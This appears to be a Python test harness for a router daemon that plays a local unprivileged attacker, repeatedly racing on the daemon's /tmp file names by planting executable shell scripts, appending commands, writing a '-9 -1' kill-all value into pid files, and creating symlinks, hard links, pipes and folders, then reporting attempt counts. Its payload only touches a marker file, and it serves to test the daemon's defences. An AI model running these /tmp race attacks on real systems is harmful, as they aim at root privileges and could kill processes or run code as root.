"""A local user who wants root's rights, in the router: tries everything that /tmp lets him do to the names of the
generated files, until told to end, and then says how often he has tried what.

attacker.py UID STOP: becomes UID; ends once the file STOP exists, and ENOUGH was tried.
"""
import itertools
import json
import os
import sys

BATCH = ".tmp_uplinkd_script"
NAMES = [BATCH, ".uplinkd"] + [
    f".{name}" for name in ("udhcpc_v4_wan0.script", "udhcpc_v4_wan0.pid", "udhcpc6_v6_wan0.script",
                            "udhcpc6_v6_wan0.pid", "pppd_wan0_ppp.pid", "ip-up_wan0", "ip-down_wan0",
                            "ipv6-up_wan0", "ipv6-down_wan0")]
ENOUGH = 10000  # attempts of each kind
COMMAND = b"\n/bin/touch /root_was_here\n"


def append(path):
    for flags in (os.O_WRONLY | os.O_APPEND, os.O_RDWR):
        os.write(os.open(path, flags | os.O_NONBLOCK), COMMAND)


def plant_file(path):
    os.write(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o777), b"#!/bin/sh" + COMMAND)


def plant_pid(path):
    os.write(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666), b"-9 -1\n")


def plant_folder(path):
    os.mkdir(path, 0o777)
    os.mkdir(path + "/his")


def take_away(path):
    try:
        os.unlink(path)
    except OSError:
        os.rename(path, path + ".his")


ATTEMPTS = {
    "append": append,
    "enter": lambda path: append("/tmp/.uplinkd/" + os.path.basename(path)),
    "take away": take_away,
    "file": plant_file,
    "pid": plant_pid,
    "link to root's": lambda path: os.symlink("/roots_own", path),
    "dangling link": lambda path: os.symlink("/tmp/his", path),
    "hard link": lambda path: os.link("/tmp/roots_too", path),
    "pipe": lambda path: os.mkfifo(path, 0o666),
    "folder": plant_folder,
}


def main():
    uid, stop = int(sys.argv[1]), sys.argv[2]
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    os.umask(0)
    tried = dict.fromkeys(ATTEMPTS, 0)
    done = dict.fromkeys(ATTEMPTS, 0)
    for count, ((kind, attempt), name) in enumerate(itertools.cycle(itertools.product(ATTEMPTS.items(), NAMES))):
        tried[kind] += 1
        try:
            attempt("/tmp/" + name)
            done[kind] += 1
        except OSError:
            pass
        if count % 100 == 0:
            os.closerange(3, 1000)
            if os.path.exists(stop) and min(tried.values()) >= ENOUGH:
                break
    print(json.dumps({"tried": tried, "done": done}))


main()
